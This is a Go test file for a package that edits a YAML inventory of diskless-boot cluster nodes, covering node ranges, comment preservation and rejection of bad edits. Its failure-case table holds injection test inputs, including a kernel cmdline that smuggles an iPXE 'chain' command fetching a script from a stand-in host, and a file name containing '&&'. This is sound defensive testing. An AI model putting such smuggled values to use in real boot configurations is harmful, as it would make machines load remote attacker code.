package inventory

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// copyExample puts a copy of the reference inventory in a temp dir.
func copyExample(t *testing.T) string {
	t.Helper()
	data, err := os.ReadFile(examplePath)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "cluster.yaml")
	if err := os.WriteFile(path, data, 0o640); err != nil {
		t.Fatal(err)
	}
	return path
}

func nodeNames(c *Cluster) string {
	var names []string
	for _, n := range c.Nodes() {
		names = append(names, n.Name)
	}
	return strings.Join(names, " ")
}

// reload checks that the file on disk parses to the same nodes as c.
func reload(t *testing.T, path string, c *Cluster) string {
	t.Helper()
	disk, err := Load(path)
	if err != nil {
		t.Fatalf("Load(%s) after edit: %v", path, err)
	}
	if got, want := dump(disk), dump(c); got != want {
		t.Fatalf("file on disk resolves differently from the returned cluster:\n%s\nvs\n%s", got, want)
	}
	data, _ := os.ReadFile(path)
	return string(data)
}

func TestEditRoundTrip(t *testing.T) {
	path := copyExample(t)
	c, err := AddNode(path, "cn[005-006]", map[string]any{
		"groups": []any{"compute"},
		"interfaces": []any{map[string]any{
			"name": "net0", "network": "lab", "mac": "52:54:00:00:00:{index:02x}", "ip": "198.18.0.{index+10}",
		}},
	})
	if err != nil {
		t.Fatalf("AddNode(cn[005-006]): %v", err)
	}
	if got, want := nodeNames(c), "cn001 cn002 cn003 cn004 cn005 cn006 login1 ocean1 ocean2"; got != want {
		t.Errorf("after AddNode nodes = %q, want %q", got, want)
	}
	if n, _ := c.Node("cn006"); n.Interfaces[0].IP.String() != "198.18.0.16" {
		t.Errorf("cn006 ip = %v, want 198.18.0.16", n.Interfaces[0].IP)
	}
	text := reload(t, path, c)
	for _, comment := range []string{"# DisklessTrap inventory", "# A range: one entry", "# boot server address"} {
		if !strings.Contains(text, comment) {
			t.Errorf("comment %q lost by the edit:\n%s", comment, text)
		}
	}
	if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o640 {
		t.Errorf("file mode after edit = %v, want 0640", fi.Mode().Perm())
	}

	// Set on one node of a range entry splits it out.
	c, err = SetNodes(path, "cn002", map[string]any{"mode": "ramroot"})
	if err != nil {
		t.Fatalf("SetNodes(cn002): %v", err)
	}
	n2, _ := c.Node("cn002")
	n1, _ := c.Node("cn001")
	if Val(n2.Attrs.Mode) != "ramroot" || n2.Blame["mode"].Kind != "node" || Val(n1.Attrs.Mode) != "trap" {
		t.Errorf("after SetNodes(cn002) mode cn002=%v (%v) cn001=%v", Val(n2.Attrs.Mode), n2.Blame["mode"], Val(n1.Attrs.Mode))
	}
	if n2.Interfaces[0].MAC.String() != "52:54:00:00:00:02" || n2.Groups[0] != "compute" {
		t.Errorf("split-out cn002 lost its fields: %+v", n2)
	}
	text = reload(t, path, c)
	if !strings.Contains(text, "name: cn[001,003-004]") || !strings.Contains(text, "name: cn002") {
		t.Errorf("range entry not split as expected:\n%s", text)
	}

	// Set on whole entries edits them in place; nil removes the key.
	c, err = SetNodes(path, "cn[001-004]", map[string]any{"mode": nil, "cmdline": "console=ttyS0 debug"})
	if err != nil {
		t.Fatalf("SetNodes(cn[001-004]): %v", err)
	}
	n2, _ = c.Node("cn002")
	if Val(n2.Attrs.Mode) != "trap" || n2.Blame["mode"].Name != "compute" || Val(n2.Attrs.Cmdline) != "console=ttyS0 debug" {
		t.Errorf("after unset, cn002 mode=%v from %v cmdline=%q", Val(n2.Attrs.Mode), n2.Blame["mode"], Val(n2.Attrs.Cmdline))
	}
	reload(t, path, c)

	c, err = DeleteNodes(path, "cn[003-005]")
	if err != nil {
		t.Fatalf("DeleteNodes(cn[003-005]): %v", err)
	}
	if got, want := nodeNames(c), "cn001 cn002 cn006 login1 ocean1 ocean2"; got != want {
		t.Errorf("after DeleteNodes nodes = %q, want %q", got, want)
	}
	reload(t, path, c)
	c, err = DeleteNodes(path, "cn[001-002,006]")
	if err != nil {
		t.Fatalf("DeleteNodes(all cn): %v", err)
	}
	if got := nodeNames(c); got != "login1 ocean1 ocean2" {
		t.Errorf("after deleting every cn node, nodes = %q", got)
	}
	text = reload(t, path, c)
	if strings.Contains(text, "cn0") {
		t.Errorf("deleted entries still in the file:\n%s", text)
	}
	if entries, _ := filepath.Glob(filepath.Join(filepath.Dir(path), ".*tmp*")); len(entries) > 0 {
		t.Errorf("temp files left behind: %v", entries)
	}
}

func TestEditEmptyFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cluster.yaml")
	if err := os.WriteFile(path, []byte("# empty inventory\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	c, err := AddNode(path, "n1", map[string]any{"mode": "local", "interfaces": []any{map[string]any{"mac": "52:54:00:00:00:01"}}})
	if err != nil {
		t.Fatalf("AddNode on an empty file: %v", err)
	}
	if n, ok := c.Node("n1"); !ok || Val(n.Attrs.Mode) != "local" {
		t.Errorf("AddNode(n1) = %v", n)
	}
	reload(t, path, c)
}

func TestEditFailuresLeaveFile(t *testing.T) {
	iface := func(mac string) map[string]any {
		return map[string]any{"interfaces": []any{map[string]any{"mac": mac}}}
	}
	tests := []struct {
		name string
		do   func(path string) error
		want string
	}{
		{"add existing", func(p string) error { _, err := AddNode(p, "login1", nil); return err }, "already exist: login1"},
		{"add overlapping range", func(p string) error { _, err := AddNode(p, "cn[004-005]", nil); return err }, "already exist: cn004"},
		{"add bad range", func(p string) error { _, err := AddNode(p, "cn[5-1]", nil); return err }, "reversed range"},
		{"add unknown key", func(p string) error { _, err := AddNode(p, "x1", map[string]any{"colour": "red"}); return err }, `unknown field "colour"`},
		{"add invalid mode", func(p string) error { _, err := AddNode(p, "x1", map[string]any{"mode": "fly"}); return err }, `unknown mode "fly"`},
		{"add duplicate mac", func(p string) error { _, err := AddNode(p, "x1", iface("52:54:00:00:01:01")); return err }, "duplicate MAC 52:54:00:00:01:01"},
		{"add unknown group", func(p string) error { _, err := AddNode(p, "x1", map[string]any{"groups": []any{"nope"}}); return err }, `unknown group "nope"`},
		{"set unknown node", func(p string) error {
			_, err := SetNodes(p, "cn[004-005]", map[string]any{"mode": "local"})
			return err
		}, "no such node(s): cn005"},
		{"set name", func(p string) error { _, err := SetNodes(p, "login1", map[string]any{"name": "x"}); return err }, `field "name" cannot be set`},
		{"set nothing", func(p string) error { _, err := SetNodes(p, "login1", nil); return err }, "no fields to set"},
		{"set invalid on split", func(p string) error { _, err := SetNodes(p, "cn002", map[string]any{"mode": "fly"}); return err }, `unknown mode "fly"`},
		{"set injected cmdline", func(p string) error {
			_, err := SetNodes(p, "cn002", map[string]any{"cmdline": "quiet ; chain http://203.0.113.9/x.ipxe ; #"})
			return err
		}, `cmdline: token ";": character ';' not allowed`},
		{"add injected kernel", func(p string) error { _, err := AddNode(p, "x1", map[string]any{"kernel": "k&&x"}); return err }, `kernel: file name "k&&x" contains '&'`},
		{"set wrong type", func(p string) error { _, err := SetNodes(p, "login1", map[string]any{"ssh_keys": "x"}); return err }, "want a list"},
		{"delete unknown", func(p string) error { _, err := DeleteNodes(p, "login[1-2]"); return err }, "no such node(s): login2"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			path := copyExample(t)
			before, _ := os.ReadFile(path)
			err := tt.do(path)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("edit error = %v, want it to contain %q", err, tt.want)
			}
			after, _ := os.ReadFile(path)
			if !bytes.Equal(before, after) {
				t.Errorf("failed edit changed the file")
			}
			if entries, _ := os.ReadDir(filepath.Dir(path)); len(entries) != 1 {
				t.Errorf("failed edit left files behind: %v", entries)
			}
		})
	}
}

func TestEditInvalidFileRefused(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cluster.yaml")
	bad := []byte("nodes:\n  - name: cn1\n    mode: fly\n")
	if err := os.WriteFile(path, bad, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := AddNode(path, "cn2", nil); err == nil || !strings.Contains(err.Error(), "current file is invalid") {
		t.Errorf("AddNode on an invalid file: error = %v", err)
	}
	if after, _ := os.ReadFile(path); !bytes.Equal(after, bad) {
		t.Errorf("refused edit changed the file")
	}
}
